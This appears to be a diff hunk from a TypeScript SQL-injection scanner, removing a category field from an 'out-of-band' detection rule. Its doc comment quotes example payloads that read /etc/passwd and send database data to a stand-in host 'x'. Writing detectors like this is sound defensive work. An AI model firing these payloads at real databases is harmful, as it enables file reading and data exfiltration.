@@ -22,7 +22,6 @@ import { outsideTrigger } from './trigger.ts';
 /** `load_file('/etc/passwd')`, `utl_http.request('http://x/'||user)`, `xp_dirtree '\\x\a'`. */
 export const outOfBand: ValueRule = {
   id: 'sqli.out-of-band',
-  category: 'sqli',
   cwe: 'CWE-89',
   severity: 'critical',
   score: confidence.certain,
